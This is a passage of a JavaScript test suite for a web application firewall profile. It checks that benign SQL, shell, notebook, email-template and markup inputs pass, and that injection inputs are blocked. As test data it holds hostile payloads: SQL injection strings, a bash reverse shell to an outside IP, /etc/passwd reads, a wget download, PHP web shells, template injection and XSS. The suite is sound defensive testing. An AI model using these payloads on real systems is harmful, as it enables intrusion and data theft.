        sql: "SELECT country, SUM(amount) AS revenue\nFROM payments WHERE status = 'paid'\nGROUP BY country;",
      },
      // A Gist's files are keyed by their names; a file object names itself, its path or its language.
      { files: { 'deploy.sh': { content: 'for f in *.log; do\n  gzip "$f"\ndone | sort -n\n' } } },
      {
        title: 'Cleanup',
        file_name: 'cleanup.sh',
        content: 'for f in *.log; do\n  gzip "$f"\ndone | sort -n\n',
      },
    ]) {
      assert.ok((await run(plain, doc)).error !== undefined, JSON.stringify(doc));
      assert.equal((await run(api, doc)).error, undefined, JSON.stringify(doc));
    }
  });

  test('a one-line value, a payload in a program, or another field name keeps every rule', async () => {
    for (const doc of [
      { code: "' OR 1=1--" },
      { voucher: { code: "1' UNION SELECT password FROM users--" } },
      { code: 'import os\nos.system("cat /etc/passwd")\n' },
      { code: 'x=1\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' },
      { comment: 'x=1\n; cat /etc/passwd\n' },
      { content: "a\n1' UNION SELECT password FROM users--" },
      { files: { 'x.sh': { content: 'x=1\ncat /etc/passwd\n' } } },
      { title: 'Notes', content: "a\n1' UNION SELECT password FROM users--" },
    ]) {
      assert.ok((await run(api, doc)).error !== undefined, JSON.stringify(doc));
    }
  });

  test('editor HTML: code samples with encoded markup, media embeds, anchor ids, srcset, any named reference', async () => {
    for (const html of [
      '<p>Embed it like this:</p><pre><code class="language-html">&lt;script src="/widget.js"&gt;&lt;/script&gt;</code></pre>',
      '<figure class="media"><oembed url="https://vimeo.com/76979871"></oembed></figure><h2 id="why-it-matters">Why it matters</h2><p>Read <a href="https://example.com/a">more</a>.</p><pre><code>&lt;div id="app"&gt;&lt;/div&gt;</code></pre>',
      '<img src="https://cdn.example.com/a.jpg" srcset="https://cdn.example.com/a-600.jpg 600w, https://cdn.example.com/a.jpg 1200w" sizes="(max-width: 600px) 100vw, 600px" alt="Harbour">',
      '<p>Late work: &minus;10%. &ldquo;Select your battles, then drop everything else.&rdquo;</p>',
    ]) {
      assert.equal((await run(api, { html })).error, undefined, html);
    }
    // CRS blocks the code sample (its rules decode the entities).
    const sample = '<p>Embed it:</p><pre><code>&lt;script src="/w.js"&gt;&lt;/script&gt;</code></pre>';
    assert.ok((await run(plain, { html: sample })).error !== undefined);
  });

  test('e-mail templates with plain merge tags, social embeds and news prose pass', async () => {
    for (const html of [
      '<p>Hi {{ first_name | default: "there" }},</p>{% for item in order.items %}<p>{{ item.name }}: {{ item.price | money }}</p>{% endfor %}<p>Thanks for your time on {{ last_call_date | date: "%A" }}. <a href="https://example.com/roi?c={{campaign.slug}}">ROI guide</a></p>',
      '<blockquote class="twitter-tweet"><p lang="en">Thread below 👇</p>&mdash; Parliament Live (@ParliamentLive)</blockquote><script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>',
      '<p>Shares fell 8% in early trading. Analysts said the backlog of €31bn “should cushion any drop in new business through 2027”. Go to bed and get up at the same time, and don’t drink coffee after 2pm.</p>',
    ]) {
      assert.equal((await run(api, { html })).error, undefined, html);
    }
  });

  test('templates that evaluate, scripts from other hosts and queries that break out are still blocked', async () => {
    for (const html of [
      '<p>Hi {{ 7*7 }}</p>',
      '<p>Hi {{ self.__init__.__globals__ }}</p>',
      '<p>Hi</p><script async src="https://evil.example/widgets.js"></script>',
      '<p>Hi</p><script async src="https://platform.twitter.com/widgets.js">alert(1)</script>',
    ]) {
      assert.ok((await run(api, { html })).error !== undefined, html);
    }
  });

  test('editor HTML that could run or clobber is still blocked', async () => {
    for (const html of [
      '<h2 id="location">x</h2><img src=x onerror=alert(1)>',
      '<p>x</p><pre><code>cat /etc/passwd</code></pre><script>alert(1)</script>',
      '<oembed url="javascript:alert(1)"></oembed><svg onload=alert(1)>',
      '<img srcset="javascript:alert(1) 1x" src=x onerror=alert(1)>',
      '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
    ]) {
      assert.ok((await run(api, { html })).error !== undefined, html);
    }
  });
});

describe('waf API profile: held-out 7 (session 6, measured once as written, then fixed)', () => {
  test('notebook cells, tool names as values, titles and prose with prices, comparisons and quotes pass', async () => {
    for (const doc of [
      {
        cells: [
          {
            cell_type: 'code',
            source: '%%sh\nwget -q https://data.example.org/casts.tar.gz\ntar xzf casts.tar.gz\n',
          },
        ],
      },
      { metadata: { kernelspec: { name: 'python3', language: 'python' } } },
      {
        descriptionHtml:
          '<p>🧘 <strong>Sleep Better Workshop</strong> — learn why adults need 7–9 hours.</p><ol><li>Science of sleep, 45 min</li></ol>',
      },
      {
        body: "Landlord wants to drop the asking price by 5% if there are no offers by Friday; select the 'price reduced' badge then.",
      },
      {
        description:
          'Pets considered: 1 cat or a small dog (<10 kg) with an additional £200 deposit. Reduced from $2,450 to $2,300; Airbnb/holiday lets are not permitted.',
      },
    ]) {
      assert.equal((await run(api, doc)).error, undefined, JSON.stringify(doc));
    }
  });

  test('probes, payload keys behind prose values and payloads in notebook code are blocked', async () => {
    for (const doc of [
      { shell: 'whoami' },
      { attributes: { '-1 OR 1=1': 'This is a long sentence about the weather today' } },
      { attributes: { "' or '1'='1": 'This is a long sentence about the weather today' } },
      { cells: [{ source: 'x = 1\nimport os; os.system("cat /etc/passwd")\n' }] },
      { description: 'Cheap flat for rent near the station; cat /etc/passwd and more nice things' },
    ]) {
      assert.ok((await run(api, doc)).error !== undefined, JSON.stringify(doc));
    }
  });
});

describe('waf API profile: long sentences with quotes, dates, ranges and a prose semicolon (session 6)', () => {
  test('listing descriptions and applications pass; the same sentences with a command after the semicolon do not', async () => {
    const listing =
      "Utilities not included — expect ~$120/month. The building has a 'no short lets' rule, so Airbnb/holiday lets are not permitted. EPC rating B (84). A 24-hour gym is within 5 minutes; service charge £1,840/yr (covers insurance, cleaning and the lift). Letter dated 04/11/2025 attached; the farmers' market is on Saturdays.";
    assert.equal((await run(plain, { description: listing })).error?.reason?.startsWith('waf:'), true);
    assert.equal((await run(api, { description: listing })).error, undefined);
    for (const description of [
      `${listing.slice(0, 120)}; service charge ; cat /etc/passwd`,
      `${listing.slice(0, 120)}; wget http://203.0.113.9/x.sh -O /tmp/x`,
    ]) {
      assert.ok((await run(api, { description })).error !== undefined, description);
    }
    assert.equal(proseQuotesInert("DO NOT list as 'no issues'. Landlord wants it"), true);
    assert.equal(proseQuotesInert("Hi 'x' .5 there"), false);
  });
});

describe('waf API profile: one-line programs, exercise solutions, web shells (session 7)', () => {
  test("a saved query, a code runner's submission, an exercise's solution and starter code pass; CRS blocks them", async () => {
    for (const doc of [
      {
        name: 'Campaign union',
        sql: "SELECT country, SUM(amount) AS revenue FROM payments WHERE status = 'captured' GROUP BY country HAVING SUM(amount) > 1000 ORDER BY revenue DESC LIMIT 20",
      },
      { variables: { sql: "SELECT * FROM events WHERE name IN ('checkout_started','checkout_completed')" } },
      {
        language: 'bash',
        source: "cat access.log | awk '{print $1}' | sort | uniq -c | sort -nr | head -n 5",
      },
      {
        language: 'sql',
        source: 'DELETE FROM sessions WHERE expires_at < now(); DROP TABLE IF EXISTS tmp_import;',
      },
      { title: 'Lab 4', solution: 'chmod u+x deploy.sh\n./deploy.sh > deploy.log 2>&1 &' },
      {
        title: 'Lab 2',
        starterCode: '#!/usr/bin/env bash\n# your pipeline here\ncut -d" " -f1 access.log | sort\n',
      },
    ]) {
      assert.ok((await run(plain, doc)).error !== undefined, JSON.stringify(doc));
      assert.equal((await run(api, doc)).error, undefined, JSON.stringify(doc));
    }
  });

  test('one-line injections in code-named fields, prose solutions, compound names on one line, web shells: blocked', async () => {
    for (const doc of [
      // One line without a program object: a voucher or tracking code.
      { source: "web' OR 1=1--" },
      { sql: "' UNION SELECT password FROM users--" },
      { sql: '1; DROP TABLE users' },
      // In a program object, one line that leaves its context or probes.
      { language: 'sql', source: "'; DROP TABLE users;--" },
      { language: 'bash', source: '; cat /etc/passwd' },
      { language: 'bash', code: 'whoami; id' },
      // A language that is no programming language.
      { language: 'en', code: "1' UNION SELECT password FROM users--" },
      // A prose solution is prose: its rules apply.
      { solution: "Thanks, that fixed it.\n' UNION SELECT username, password FROM users--" },
      { postalCode: "1' OR '1'='1" },
      // Web shells in files and code fields, on one line or several.
      { filename: 'x.php', content: "<?php system($_GET['c']); ?>" },
      { files: { 'a.php': { content: '<?php\n$c = $_REQUEST["c"];\neval(base64_decode($c));\n?>' } } },
      { language: 'python', code: 'import os\nos.system(request.args["cmd"])\n' },
    ]) {
      assert.ok((await run(api, doc)).error !== undefined, JSON.stringify(doc));
    }
  });
});

describe('waf API profile: indented code blocks in markdown (session 7)', () => {
  test('an indented SQL or shell block after prose passes; CRS blocks it', async () => {
    for (const raw of [
      'To find duplicate emails:\n\n    SELECT email, COUNT(*) FROM users GROUP BY email HAVING COUNT(*) > 1;\n\nThen decide which row to keep.',
      'This is what I run on the build box:\n\n    for f in *.log; do\n      gzip "$f"\n    done | sort -n\n\nand it fails on arm64.',
    ]) {
      assert.ok((await run(plain, { body: raw })).error !== undefined, raw);
      assert.equal((await run(api, { body: raw })).error, undefined, raw);
    }
  });

  test('indented payloads, blocks without prose before them and probes are still blocked', async () => {
    for (const raw of [
      "Please refund my order:\n\n    1' UNION SELECT password FROM users--",
      'Please check this:\n\n    ; cat /etc/passwd',
      'Please check this:\n\n    whoami\n    id',
      'Please check this:\n\n    bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
      "    1' UNION SELECT password FROM users--\n\nthanks",
      'Please check this:\n    x; cat /etc/passwd',
    ]) {
      assert.ok((await run(api, { raw })).error !== undefined, raw);
    }
  });
});

describe('waf API profile: quotations, links and operator spans in markdown answers (session 7)', () => {
  test('a quoted reply, a link to the manual and an operator named in a span pass; CRS blocks them', async () => {
    for (const body of [
      'MySQL does not allow the target table in a subquery of a DELETE/UPDATE.\n\n> This deletes the wrong rows if it can be NULL, careful!\n\nHope that helps!',
      'See also the [manual](https://www.postgresql.org/docs/current/queries-union.html) and `chmod 755` for the rest.',
      "@maria_db you don't need the `;` inside the `-exec`, only the escaped one at the end",
    ]) {
      assert.ok((await run(plain, { body })).error !== undefined, body);
      assert.equal((await run(api, { body })).error, undefined, body);
    }
  });

  test('a probe after a quotation marker is in command position (a redirection to a file named by the next word)', () => {
    assert.equal(
      commandOnlyAtStart('MySQL does not allow it.\n> This deletes the wrong rows, careful!'),
      true,
    );
    assert.equal(commandOnlyAtStart('Thanks for the help here today\n> x whoami'), false);
    assert.equal(commandOnlyAtStart('Thanks for the help here today\n> whoami'), false);
    assert.equal(commandOnlyAtStart('Thanks for the help here today\n>> x sudo reboot'), false);
  });

  test('a downloader given a link, operators with payloads: blocked', async () => {
    for (const body of [
      'Thanks for the help here, run this:\nwget [setup](https://evil.example/x.sh) and then it works',
      'Thanks for the help here, the fix is `; cat /etc/passwd` as usual',
      "Thanks for the help here, the fix is `' OR 1=1--` as usual",
    ]) {
      assert.ok((await run(api, { body })).error !== undefined, body);
    }
  });
});

describe('waf API profile: comparisons and redirections at a line start (session 7)', () => {
  test('a comparison before a number is prose; a redirection puts the word after its file in command position', () => {
    assert.equal(commandOnlyAtStart('Parent questions re: screen time (< 1 hr/day advised) and more'), true);
    for (const t of [
      'Please check the server status today\n< 1 whoami',
      'Please check the server status today\n<1 whoami',
      'Please check the server status today\n2> x sudo id',
    ])
      assert.equal(commandOnlyAtStart(t), false, t);
  });
});

describe('waf API profile: a failure-ignoring idiom in a code span (session 7)', () => {
  test('`|| true` named in an issue is code; a span chaining a command stays prose', async () => {
    const body =
      '**Steps**\n1. Paste the webhook URL\n\nAdding `|| true` after the `grep` stops the job from failing.\n\n**Environment**: Windows 11 23H2, PowerShell 7.4.6';
    assert.ok((await run(plain, { body })).error !== undefined);
    assert.equal((await run(api, { body })).error, undefined);
    for (const bad of [
      'Adding `|| whoami` after the grep stops the job from failing, see PowerShell 7.4.6',
      'Adding `|| true; cat /etc/passwd` after the grep stops the job from failing',
    ])
      assert.ok((await run(api, { body: bad })).error !== undefined, bad);
  });
});

describe('waf API profile: a stylesheet field (session 7)', () => {
  test('custom CSS with a font import passes; one that leaves the style element or runs script is blocked', async () => {
    const css =
      '@import url("https://fonts.googleapis.com/css2?family=Playfair+Display:wght@700&display=swap");\n:root{--brand:#0a7d5a}\n.card:hover{box-shadow:0 4px 12px rgba(0,0,0,.15)}';
    assert.ok((await run(plain, { custom_css: css })).error !== undefined);
    assert.equal((await run(api, { custom_css: css })).error, undefined);
    for (const bad of [
      '.a{color:red}\n</style><script>alert(document.cookie)</script>',
      '.a{color:red}\nbody{background:url(javascript:alert(1))}',
      '.a{width:expression(alert(1))}\n.b{}',
    ])
      assert.ok((await run(api, { custom_css: bad })).error !== undefined, bad);
  });
});

describe('waf API profile: review comments with empty braces and task lists (held-out 11, session 7)', () => {
  test('`return {}` in a sentence and `- [x] tests` pass; braces that group commands do not', async () => {
    const body =
      '## Summary\nWhy do we catch and swallow the error here? If eval of the config fails we should surface it, not return {}.\n\n```sql\nSELECT c.id, SUM(p.amount) AS paid\nFROM claims c LEFT JOIN payments p ON p.claim_id = c.id\nGROUP BY c.id;\n```\n\n- [x] tests\n- [ ] docs';
    assert.ok((await run(plain, { body })).error !== undefined);
    assert.equal((await run(api, { body })).error, undefined);
    assert.equal(commandOnlyAtStart('Why do we swallow the error here, not return {} at all'), true);
    assert.equal(commandOnlyAtStart('Why do we swallow the error here; { whoami; }'), false);
    assert.equal(commandOnlyAtStart('Why do we swallow the error here {id,whoami}'), false);
  });
});

describe('waf API profile: words right after an HTML tag (session 7)', () => {
  test('a table cell holding `id` is a redirection target to a shell, not a command; a probe after it is', async () => {
    const html =
      '<p>Exports are limited to <em>10,000 rows</em>.</p><table><thead><tr><th>Column</th><th>Description</th></tr></thead><tbody><tr><td>id</td><td>Ticket ID</td></tr><tr><td>requester_email</td><td>Who opened it</td></tr></tbody></table>';
    assert.equal((await run(api, { body: html })).error, undefined);
    assert.equal(proseWaivers(Buffer.from(html).toString('latin1')).includes('c'), true);
    // A probe in command position after a tag's redirection, or at the start of a real line, keeps family c off.
    for (const bad of [
      '<p>Exports are limited to 10,000 rows per request.</p><table><tr><td>x whoami</td></tr></table>',
      '<p>Exports are limited to 10,000 rows per request.</p>\nwhoami',
      '<p>Exports are limited to 10,000 rows per request.</p><p>Run id now</p>',
      '<p>Exports are limited to 10,000 rows per request.</p><p>Run WHOAMI now</p>',
    ])
      assert.equal(proseWaivers(Buffer.from(bad).toString('latin1')).includes('c'), false, bad);
  });
});
